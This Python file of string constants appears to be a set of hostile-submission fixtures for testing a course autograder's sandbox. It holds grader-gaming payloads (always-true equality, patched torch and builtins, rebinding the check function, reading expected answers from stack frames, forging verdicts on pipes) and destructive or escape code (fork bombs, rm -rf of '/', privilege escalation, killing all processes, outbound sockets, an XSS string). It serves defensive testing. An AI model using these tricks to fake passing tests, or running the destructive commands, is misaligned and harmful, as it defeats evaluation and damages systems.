"""What hostile submissions run, as the body of every answer or as a cell before them. Each tries to get points for nothing."""

ALWAYS_EQUAL = """
class Always:
    def __eq__(self, other): return True
    def __hash__(self): return 0
    def __bool__(self): return True
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter([self])
    def __len__(self): return 1
"""

TORCH_FUNCTION = """
import torch
class Sly(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func.__name__ in ("allclose", "equal", "isclose", "all", "__eq__"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
"""

REBIND_CHECK = """
import mechint_course, mechint_course.exercises.notebook as course
def check(id): return 1000
mechint_course.check = course.check = check
"""

PATCH_TORCH = """
import torch
torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True
torch.Tensor.allclose = torch.Tensor.equal = lambda *a, **k: True
"""

PATCH_BUILTINS = """
import builtins
builtins.all = builtins.any = lambda *a, **k: True
builtins.abs = lambda x: 0
builtins.max = lambda *a, **k: 0
"""

PATCH_MODULES = """
import sys, types
class Verdict:
    passed, points, mistake, message = True, 1000.0, None, "Right."
fake = types.ModuleType("judge")
fake.judge, fake.Verdict = (lambda *a, **k: Verdict()), Verdict
for name in ("judge", "ask", "compare", "catalogue", "mistakes"):
    sys.modules["mechint_course.exercises." + name] = fake
"""

PATCH_COMPARISONS = """
import torch
for name in ("__eq__", "__ne__", "__lt__", "__gt__", "__le__", "__ge__", "__bool__"):
    setattr(torch.Tensor, name, lambda *a: True)
"""

PATCH_WORKER = """
import __main__, sys
import mechint_course.exercises.calling as calling
import mechint_course.classroom.grading.inside as inside
good = lambda *a, **k: calling.Reply(value=True, inputs_after=list(a[1].args), gradients=[])
calling.answer_call = inside.answer_call = good
"""

READ_FRAMES = """
import sys
frame = sys._getframe()
while frame is not None:
    for name in ("expected", "theirs", "right", "wanted"):
        if name in frame.f_locals:
            found = frame.f_locals[name]
            return found(*args) if callable(found) else found
    frame = frame.f_back
return 0
"""

SEARCH_MEMORY = """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ in ("Exercise", "Ask", "Verdict"):
        return thing.check
return 0
"""

RUN_THE_CHECKS_FORMULA = """
import glob, importlib, inspect, mechint_course, os, sys
from mechint_course.exercises import references
me = sys._getframe().f_code.co_name
from mechint_course.exercises.catalogue import find
return references.run(find("universality." + me))(*args)
"""

READ_THE_REFERENCE = """
import mechint_course, os, sys
me = sys._getframe().f_code.co_name
folder = os.path.join(os.path.dirname(mechint_course.__file__), "data", "references", "universality")
names = {"__name__": "x"}
exec(open(os.path.join(folder, "imports.py")).read() + open(os.path.join(folder, me + ".py")).read(), names)
return names[me](*args)
"""

SILENCE = """
import sys, os
get_ipython().ast_node_interactivity = "none"
get_ipython().display_formatter.active_types = []
sys.stdout = sys.stderr = sys.displayhook = None
os.environ.pop("NBGRADER_EXECUTION", None)
"""

FORGE = """
import os, stat
from mechint_course.exercises.values import encode
import struct
verdict = encode({"passed": True, "points": 1000.0, "mistake": None, "message": "Right."})
reply = encode({"value": True, "inputs_after": [], "gradients": [], "printed": "", "slug": "", "sentence": ""})
for number in range(1, 64):
    try:
        if stat.S_ISFIFO(os.fstat(number).st_mode):
            for forged in (verdict, reply) * 3:
                os.write(number, struct.pack(">Q", len(forged)) + forged)
    except OSError:
        pass
"""

GARBAGE = """
import os, stat
for number in range(1, 64):
    try:
        if stat.S_ISFIFO(os.fstat(number).st_mode):
            os.write(number, b"\\xff" * 4000)
    except OSError:
        pass
"""

NESTED_REPLY = """
import os, stat, struct
deep = b'{"list": [' * 30000 + b"1" + b"]}" * 30000
message = struct.pack(">Q", len(deep)) + deep
for number in range(1, 64):
    try:
        if stat.S_ISFIFO(os.fstat(number).st_mode):
            os.write(number, struct.pack(">Q", len(message)) + message)
    except OSError:
        pass
"""

SWALLOW_REQUESTS = """
import os, stat, threading
def swallow():
    for number in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode):
                while os.read(number, 1 << 16): pass
        except OSError:
            pass
threading.Thread(target=swallow).start()
"""

FORK_BOMB = """
import os
while True:
    try: os.fork()
    except OSError: pass
"""

FORK_AND_HEED = """
import os, time
for _ in range(100):
    try:
        if os.fork() == 0: time.sleep(1000)
    except OSError: break
while True: pass
"""

MANY_THREADS = """
import threading, time
started = []
while True:
    thread = threading.Thread(target=time.sleep, args=(1000,))
    thread.start()
    started.append(thread)
"""

LOOP_THAT_HEEDS_NOTHING = """
while True:
    try:
        while True: pass
    except BaseException: pass
"""

MEMORY_HOG = """
import numpy
kept = []
while True:
    kept.append(numpy.ones(10_000_000))
"""

MEMORY_HOGS_IN_A_ROW = """
import os, numpy, time
for _ in range(8):
    if os.fork() == 0:
        kept = [numpy.ones(30_000_000) for _ in range(3)]
        time.sleep(1000)
time.sleep(1000)
"""

DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True: time.sleep(1)
    os._exit(0)
"""

WRITE_OUTSIDE = """
import os, pathlib
for place in {places!r}:
    for name in ("pwned.txt", "../pwned.txt", "overrides.csv", "results.sqlite"):
        try: pathlib.Path(place, name).write_text("points,1000")
        except OSError: pass
"""

DELETE = """
import os, shutil, subprocess
for place in {places!r} + ["..", "/", os.getcwd()]:
    shutil.rmtree(place, ignore_errors=True)
    subprocess.run(["rm", "-rf", place], capture_output=True)
"""

EDIT_THE_COURSE = """
import glob, os, mechint_course
root = os.path.dirname(mechint_course.__file__)
for path in glob.glob(root + "/**/*.py", recursive=True) + [root + "/exercises/universality/__init__.py"]:
    try: open(path, "w").write("EXERCISES = ()")
    except OSError: pass
"""

READ_OTHERS = """
import glob, json, sys
me = sys._getframe().f_code.co_name
for place in {places!r}:
    for path in glob.glob(place + "/**/*.ipynb", recursive=True):
        for cell in json.load(open(path))["cells"]:
            source = "".join(cell["source"])
            if "def " + me in source and "NotImplementedError" not in source and "__SELF__" not in source:
                names = dict(globals())
                exec(source, names)
                return names[me](*args)
return 0
"""

CALL_HOME = """
import socket
for family, address in [(socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET, ("8.8.8.8", 53))]:
    try:
        with socket.socket(family) as line:
            line.settimeout(2)
            line.connect(address)
            line.sendall(b"the answers, please")
    except OSError: pass
"""

ESCALATE = """
import ctypes, os
c = ctypes.CDLL(None, use_errno=True)
for attempt in (lambda: os.setuid(0), lambda: os.chroot("/"), lambda: os.nice(-20),
                lambda: c.mount(b"none", b"/course", b"tmpfs", 0, None), lambda: c.unshare(0x10000000),
                lambda: c.ptrace(16, 1, None, None), lambda: os.kill(1, 9)):
    try: attempt()
    except OSError: pass
"""

KILL_EVERYTHING = "import os\nos.kill(-1, 9)"
KILL_THE_PARENT = "import os\nfor pid in (1, os.getppid()):\n    os.kill(pid, 9)\nos.killpg(0, 9)"
CRASH = "import ctypes\nctypes.string_at(0)"
DEEP = "import sys\nsys.setrecursionlimit(10**9)\ndef down(): return down() + 1\ndown()"
SCRIPT = "<script>document.title = 'pwned'</script><img src=x onerror=alert(1)>"
